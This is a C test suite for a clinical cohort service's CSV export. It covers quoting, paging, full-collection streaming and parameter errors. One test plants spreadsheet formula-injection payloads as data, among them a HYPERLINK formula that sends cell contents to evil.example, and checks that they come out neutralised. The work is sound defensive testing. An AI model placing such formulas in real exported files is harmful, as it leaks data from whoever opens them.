/* Lists as CSV and whole collections in one streamed answer: the same
 * records and order as JSON, RFC 4180 quoting, ISO dates, the next page in
 * Link, and limit=all crossing the export's internal pages exactly once. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "harness.h"

static int count_lines(const char *text)
{
	int n = 0;
	for (const char *p = text; (p = strstr(p, "\r\n")) != NULL; p += 2)
		n++;
	return n;
}

START_TEST(test_csv_header_and_rows_match_json)
{
	int64_t patient = make_patient("{\"sex\":\"female\",\"age\":51}");
	int64_t course = make_course(patient, NULL);
	make_toxicity(course, "{\"term\":\"Rash, \\\"acneiform\\\"\",\"grade\":2}");
	char path[128];
	snprintf(path, sizeof path, "/patients/%lld/toxicities?format=csv", (long long)patient);
	struct resp *r = http_get(path);
	ck_assert_int_eq(r->status, 200);
	ck_assert_str_eq(resp_header(r, "Content-Type"), "text/csv; charset=utf-8; header=present");
	char want[512];
	snprintf(want, sizeof want,
		 "id,course_id,patient_id,term,grade,onset_on,resolved_on,attribution,serious,"
		 "outcome,version,created_at,updated_at\r\n");
	ck_assert(strncmp(r->body, want, strlen(want)) == 0);
	/* the comma and the quotes: quoted, quotes doubled; nulls empty; ISO dates */
	snprintf(want, sizeof want,
		 ",%lld,%lld,\"Rash, \"\"acneiform\"\"\",2,1985-02-02,,definite,false,unknown,1,",
		 (long long)course, (long long)patient);
	ck_assert_msg(strstr(r->body, want) != NULL, "row not as expected: %s", r->body);
	ck_assert_int_eq(count_lines(r->body), 2);
	resp_free(r);

	snprintf(path, sizeof path, "/patients/%lld", (long long)patient);
	r = http_get(path);
	json_t *p = json_incref(r->json);
	resp_free(r);
	snprintf(path, sizeof path, "/patients?code=%s&format=csv",
		 json_string_value(json_object_get(p, "code")));
	r = http_get(path);
	snprintf(want, sizeof want,
		 "%lld,%s,female,51,melanoma,metastatic,il2_alone,1985-01-10,,alive,,,1,%s,%s\r\n",
		 (long long)patient, json_string_value(json_object_get(p, "code")),
		 json_string_value(json_object_get(p, "created_at")),
		 json_string_value(json_object_get(p, "updated_at")));
	ck_assert_msg(strstr(r->body, want) != NULL, "row not as expected: %s", r->body);
	json_decref(p);
	resp_free(r);
}
END_TEST

START_TEST(test_csv_pages_like_json_with_next_in_link)
{
	int64_t patient = make_patient(NULL);
	int64_t course = make_course(patient, NULL);
	for (int i = 0; i < 5; i++)
		make_toxicity(course, NULL);
	char path[128];
	snprintf(path, sizeof path, "/toxicities?patient_id=%lld&limit=2", (long long)patient);
	struct resp *json = http_get(path);
	static const char *const accept_csv[] = {"Accept: text/csv", NULL};
	struct resp *csv = http("GET", path, accept_csv, NULL, 0);
	ck_assert_int_eq(count_lines(csv->body), 3);
	/* the same records, in the same order */
	for (size_t i = 0; i < 2; i++) {
		json_t *item = json_array_get(json_object_get(json->json, "items"), i);
		char id[32];
		snprintf(id, sizeof id, "\r\n%lld,",
			 (long long)json_integer_value(json_object_get(item, "id")));
		ck_assert_ptr_nonnull(strstr(csv->body, id));
	}
	ck_assert_ptr_nonnull(resp_header(csv, "Link"));
	resp_free(csv);
	/* the next link of a ?format=csv page stays CSV */
	snprintf(path, sizeof path, "/toxicities?patient_id=%lld&limit=2&format=csv",
		 (long long)patient);
	csv = http_get(path);
	ck_assert_ptr_nonnull(strstr(resp_header(csv, "Link"), "format=csv"));
	resp_free(csv);
	resp_free(json);
}
END_TEST

START_TEST(test_limit_all_streams_every_record_once)
{
	/* more records than one export page (500), through the import */
	char code[64];
	snprintf(code, sizeof code, "%s", unique_code("EXP"));
	struct {
		char *data;
		size_t len;
	} body = {malloc(400000), 0};
	body.len += (size_t)sprintf(body.data,
				    "{\"code\":\"%s\",\"histology\":\"melanoma\",\"setting\":"
				    "\"metastatic\",\"regimen\":\"il2_lak\",\"enrolled_on\":"
				    "\"1985-01-10\",\"courses\":[{\"started_on\":\"1985-02-01\","
				    "\"toxicities\":[",
				    code);
	for (int i = 0; i < 1234; i++)
		body.len += (size_t)sprintf(
			body.data + body.len,
			"%s{\"term\":\"Chills\",\"grade\":1,\"onset_on\":\"1985-02-02\","
			"\"attribution\":\"definite\"}",
			i ? "," : "");
	body.len += (size_t)sprintf(body.data + body.len, "]}]}\n");
	static const char *const ndjson[] = {"Content-Type: application/x-ndjson", NULL};
	struct resp *r = http("POST", "/import", ndjson, body.data, body.len);
	ck_assert_msg(r->status == 200, "%ld %s", r->status, r->body);
	resp_free(r);
	free(body.data);
	char path[128];
	snprintf(path, sizeof path, "/patients?code=%s", code);
	r = http_get(path);
	int64_t patient = json_integer_value(
		json_object_get(json_array_get(json_object_get(r->json, "items"), 0), "id"));
	resp_free(r);

	snprintf(path, sizeof path, "/patients/%lld/toxicities?limit=all", (long long)patient);
	r = http_get(path);
	ck_assert_int_eq(r->status, 200);
	ck_assert_ptr_null(resp_header(r, "Link"));
	json_t *items = json_object_get(r->json, "items");
	ck_assert_uint_eq(json_array_size(items), 1234);
	ck_assert(json_is_null(json_object_get(r->json, "next")));
	int64_t last = 0;
	size_t i;
	json_t *item;
	json_array_foreach(items, i, item)
	{
		int64_t id = json_integer_value(json_object_get(item, "id"));
		ck_assert_int_gt(id, last); /* ascending, none twice */
		last = id;
	}
	resp_free(r);
	snprintf(path, sizeof path, "/patients/%lld/toxicities?limit=all&format=csv",
		 (long long)patient);
	r = http_get(path);
	ck_assert_int_eq(count_lines(r->body), 1235);
	resp_free(r);
}
END_TEST

START_TEST(test_bad_format_or_limit_is_400)
{
	assert_refused("GET", "/patients?format=xml", NULL, NULL, 400,
		       "urn:cohortd:problem:invalid-parameter", "format");
	assert_refused("GET", "/patients?limit=everything", NULL, NULL, 400,
		       "urn:cohortd:problem:invalid-parameter", "limit");
}
END_TEST

/* --- CSV that is safe to open ---------------------------------------------- */

/* Calls fn on each cell of csv (RFC 4180: quotes removed, doubled quotes
 * undone), with its row and column. */
static void each_cell(const char *csv, void (*fn)(const char *cell, int row, int col, void *cls),
		      void *cls)
{
	char *cell = malloc(strlen(csv) + 1);
	int row = 0, col = 0;
	const char *p = csv;
	while (*p) {
		size_t n = 0;
		if (*p == '"') {
			for (p++; *p && !(p[0] == '"' && p[1] != '"'); p++) {
				if (p[0] == '"')
					p++;
				cell[n++] = *p;
			}
			p += *p == '"';
		} else {
			while (*p && *p != ',' && *p != '\r')
				cell[n++] = *p++;
		}
		cell[n] = '\0';
		fn(cell, row, col, cls);
		if (*p == ',') {
			p++, col++;
		} else if (*p == '\r') {
			p += 2, row++, col = 0;
		}
	}
	free(cell);
}

/* No cell a spreadsheet would run: one beginning with = + - @ tab or CR is
 * a number, or it is not there. */
static void assert_inert(const char *cell, int row, int col, void *cls)
{
	const char *where = cls;
	if (!cell[0] || !strchr("=+-@\t\r", cell[0]))
		return;
	char *end;
	strtod(cell, &end);
	ck_assert_msg(*end == '\0', "%s: row %d column %d runs as a formula: %s", where, row, col,
		      cell);
}

struct find {
	const char *want;
	int found;
};

static void find_cell(const char *cell, int row, int col, void *cls)
{
	(void)row, (void)col;
	struct find *f = cls;
	f->found += strcmp(cell, f->want) == 0;
}

/* GETs path as CSV (Accept: text/csv, or ?format=csv when it has a query)
 * and asserts every cell inert and Vary: Accept; returns the answer. */
static struct resp *csv_get(const char *path, bool by_accept)
{
	static const char *const accept_csv[] = {"Accept: text/csv", NULL};
	struct resp *r = http("GET", path, by_accept ? accept_csv : NULL, NULL, 0);
	ck_assert_msg(r->status == 200, "%s: %ld %s", path, r->status, r->body);
	ck_assert_msg(strncmp(resp_header(r, "Content-Type"), "text/csv", 8) == 0, "%s: %s", path,
		      resp_header(r, "Content-Type"));
	ck_assert_msg(resp_varies_on(r, "Accept"), "%s: no Vary: Accept", path);
	each_cell(r->body, assert_inert, (void *)path);
	return r;
}

static void assert_has_cell(const struct resp *r, const char *want)
{
	struct find f = {want, 0};
	each_cell(r->body, find_cell, &f);
	ck_assert_msg(f.found > 0, "no cell %s in:\n%s", want, r->body);
}

START_TEST(test_formula_text_is_neutralised_in_every_csv)
{
	const char *cause = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
	json_t *extra = json_pack("{s:s, s:s, s:s, s:s}", "code", "-2-3", "vital_status", "dead",
				  "died_on", "1985-06-01", "death_cause", cause);
	char *text = json_dumps(extra, JSON_COMPACT);
	int64_t p = make_patient(text);
	free(text);
	json_decref(extra);
	int64_t c = make_course(p, NULL);
	make_outcome(c, "{\"response\":\"CR\"}");
	static const char *const terms[] = {"@SUM(1+1)", "+1 cmd", "-1-1", "=1,2", "Fever"};
	for (size_t i = 0; i < 5; i++) {
		char body[128];
		snprintf(body, sizeof body, "{\"term\":\"%s\",\"grade\":%d%s}", terms[i],
			 i == 0 ? 5 : 3, i == 0 ? ",\"outcome\":\"fatal\"" : "");
		make_toxicity(c, body);
	}
	char path[160];
	/* the lists, a page and the whole collection, JSON order */
	snprintf(path, sizeof path, "/patients?code=-2-3&format=csv");
	struct resp *r = csv_get(path, false);
	assert_has_cell(r, "'-2-3");
	char want[160];
	snprintf(want, sizeof want, "'%s", cause);
	assert_has_cell(r, want);
	/* the id and the numbers stay numbers */
	snprintf(want, sizeof want, "%lld", (long long)p);
	assert_has_cell(r, want);
	resp_free(r);
	snprintf(path, sizeof path, "/patients/%lld/toxicities", (long long)p);
	r = csv_get(path, true);
	assert_has_cell(r, "'@SUM(1+1)");
	assert_has_cell(r, "'+1 cmd");
	assert_has_cell(r, "'-1-1");
	assert_has_cell(r, "'=1,2");
	assert_has_cell(r, "Fever");
	resp_free(r);
	static const char *const lists[] = {"/patients?limit=all",
					    "/courses?limit=all",
					    "/outcomes?limit=all",
					    "/toxicities?limit=all",
					    "/patients",
					    "/toxicities?min_grade=3",
					    NULL};
	for (const char *const *l = lists; *l; l++) {
		r = csv_get(*l, true);
		if (strstr(*l, "toxicities"))
			assert_has_cell(r, "'@SUM(1+1)");
		if (strcmp(*l, "/patients?limit=all") == 0)
			assert_has_cell(r, "'-2-3");
		resp_free(r);
	}
	snprintf(path, sizeof path, "/patients/%lld/courses", (long long)p);
	resp_free(csv_get(path, true));
	snprintf(path, sizeof path, "/patients/%lld/outcomes", (long long)p);
	resp_free(csv_get(path, true));
	/* every statistic */
	static const char *const stats[] = {"/stats/summary",
					    "/stats/response",
					    "/stats/mortality",
					    "/stats/toxicity?min_grade=1",
					    "/stats/survival",
					    "/stats/durable-response",
					    "/stats/toxicity?unit=course&group_by=regimen",
					    NULL};
	for (const char *const *st = stats; *st; st++) {
		r = csv_get(*st, true);
		if (strstr(*st, "toxicity"))
			assert_has_cell(r, "'@SUM(1+1)");
		resp_free(r);
		snprintf(path, sizeof path, "%s%sformat=csv", *st, strchr(*st, '?') ? "&" : "?");
		resp_free(csv_get(path, false));
	}
}
END_TEST

int main(void)
{
	TCase *tc;
	Suite *s = api_suite("csv-export", &tc);
	tcase_add_test(tc, test_csv_header_and_rows_match_json);
	tcase_add_test(tc, test_csv_pages_like_json_with_next_in_link);
	tcase_add_test(tc, test_limit_all_streams_every_record_once);
	tcase_add_test(tc, test_bad_format_or_limit_is_400);
	tcase_add_test(tc, test_formula_text_is_neutralised_in_every_csv);
	return run_suite(s);
}
